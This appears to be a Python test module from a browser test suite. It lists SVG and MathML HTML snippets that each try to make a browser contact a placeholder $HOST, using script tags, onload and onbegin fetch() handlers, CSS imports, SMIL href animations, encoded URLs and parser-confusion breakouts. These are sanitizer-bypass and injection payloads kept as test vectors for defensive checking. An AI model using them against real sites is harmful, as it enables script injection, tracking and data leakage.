"""SVG and MathML in HTML (SVG 2, SVG Animations 2, Filter Effects 1; WHATWG HTML 13.2.6.5, foreign content)."""

from __future__ import annotations

from tests.browser.techniques.technique import CHROMIUM, Visible, group

_HTML = Visible.HTML

# SVG 2 § 12.3 (image), § 16 (links), Filter Effects 1 § 9.13 (feImage), SVG Animations 2 § 2.5.
_SVG = group(
    _HTML,
    ("svg-image", '<svg><image href="https://$HOST/a.gif" width="9" height="9"/></svg>'),
    ("svg-image-xlink", '<svg><image xlink:href="https://$HOST/a.gif" width="9" height="9"/></svg>'),
    ("svg-script-href", '<svg><script href="https://$HOST/a.js"></script></svg>'),
    ("svg-script-xlink", '<svg><script xlink:href="https://$HOST/a.js"/></svg>'),
    ("svg-script-inline", "<svg><script>new Image().src = 'https://$HOST/a.gif'</script></svg>"),
    ("svg-script-charref", "<svg><script>new Image().src = 'https:&sol;&sol;$HOST/a.gif'</script></svg>"),
    ("svg-script-cdata", "<svg><script><![CDATA[new Image().src = 'https://$HOST/a.gif']]></script></svg>"),
    (
        "svg-fe-image",
        (
            '<svg><filter id="f"><feImage href="https://$HOST/a.gif"/></filter>'
            '<rect width="9" height="9" filter="url(#f)"/></svg>'
        ),
    ),
    ("svg-style-import", "<svg><style>@import 'https://$HOST/a.css';</style></svg>"),
    ("svg-style-charref", "<svg><style>@import 'https&#58;//$HOST/a.css';</style></svg>"),
    (
        "svg-foreign-object",
        '<svg><foreignObject width="9" height="9"><img src="https://$HOST/a.gif"></foreignObject></svg>',
    ),
    ("svg-title", '<svg><title><img src="https://$HOST/a.gif"></title></svg>'),
    ("svg-desc-style", "<svg><desc><style>p { background: url(https://$HOST/a.gif) }</style></desc></svg>"),
    ("svg-breakout", '<svg><style><img src="https://$HOST/a.gif"></style></svg>'),
    ("svg-mask", '<svg><rect width="9" height="9" style="mask-image: url(https://$HOST/a.png)"/></svg>'),
    ("svg-cursor", '<svg><rect width="9" height="9" cursor="url(https://$HOST/a.cur), auto"/></svg>'),
    (
        "svg-pattern",
        (
            '<svg><pattern id="p" width="9" height="9"><image href="https://$HOST/a.gif" width="9" height="9"/>'
            '</pattern><rect width="9" height="9" fill="url(#p)"/></svg>'
        ),
    ),
    ("svg-onload", "<svg onload=\"fetch('https://$HOST/a').catch(() => 0)\"></svg>"),
    (
        "smil-to",
        (
            '<svg><image width="9" height="9"><animate attributeName="href" to="https://$HOST/a.gif" dur="1s" '
            'fill="freeze"/></image></svg>'
        ),
    ),
    (
        "smil-values",
        (
            '<svg><image width="9" height="9"><animate attributeName="href" values="data:,;https://$HOST/a.gif" '
            'dur="1ms" fill="freeze"/></image></svg>'
        ),
    ),
    ("smil-set", '<svg><image width="9" height="9"><set attributeName="href" to="https://$HOST/a.gif"/></image></svg>'),
    (
        "smil-other",
        '<svg><image id="i" width="9" height="9"/><set href="#i" attributeName="href" to="https://$HOST/a.gif"/></svg>',
    ),
    (
        "smil-newline",
        '<svg><image width="9" height="9"><set attributeName="href" to="ht&#9;tps:/&#10;/$HOST/a.gif"/></image></svg>',
    ),
    (
        "smil-values-newline",
        (
            '<svg><image width="9" height="9"><animate attributeName="href" values="data:,;ht&#10;tps://$HOST/a.gif" '
            'dur="1ms" fill="freeze"/></image></svg>'
        ),
    ),
    (
        "smil-mask",
        (
            '<svg width="9" height="9"><rect width="9" height="9"><set attributeName="mask" '
            'to="url(https://$HOST/a.svg#m)"/></rect></svg>'
        ),
    ),
    (
        "smil-cursor",
        (
            '<svg width="9" height="9"><rect width="9" height="9"><set attributeName="cursor" '
            'to="url(https://$HOST/a.png), auto"/></rect></svg>'
        ),
    ),
    ("smil-onbegin", '<svg><set attributeName="x" to="1" onbegin="fetch(\'https://$HOST/a\').catch(() => 0)"/></svg>'),
)
# WHATWG HTML 13.2.6.5: integration points let HTML in; break-out tags end foreign content.
_MATHML = group(
    _HTML,
    ("math-mtext", '<math><mtext><img src="https://$HOST/a.gif"></mtext></math>'),
    (
        "math-annotation",
        '<math><annotation-xml encoding="text/html"><img src="https://$HOST/a.gif"></annotation-xml></math>',
    ),
    (
        "math-annotation-style",
        (
            "<math><annotation-xml encoding='application/xhtml+xml'><style>"
            "p { background: url(https://$HOST/a.gif) }</style></annotation-xml></math>"
        ),
    ),
    ("math-style-comment", '<math><mi><style><!--</style><img src="https://$HOST/a.gif">--></style></mi></math>'),
    (
        "math-svg",
        '<math><annotation-xml><svg><foreignObject><img src="https://$HOST/a.gif"></foreignObject></svg></annotation-xml></math>',
    ),
    (
        "math-style-attribute",
        '<math><mspace width="9px" height="9px" style="background: url(https://$HOST/a.gif)"></mspace></math>',
    ),
    ("math-font-breakout", '<math><style><font color="red"><img src="https://$HOST/a.gif"></font></style></math>'),
)

# Seen to fire in Chromium alone.
_PARTED = group(
    _HTML,
    (
        "math-mglyph",
        '<math><mi><mglyph><svg><style><!--</style><img src="https://$HOST/a.gif" title="-->"></svg></mi></math>',
    ),
    browsers=CHROMIUM,
)

SVG = (*_SVG, *_MATHML, *_PARTED)
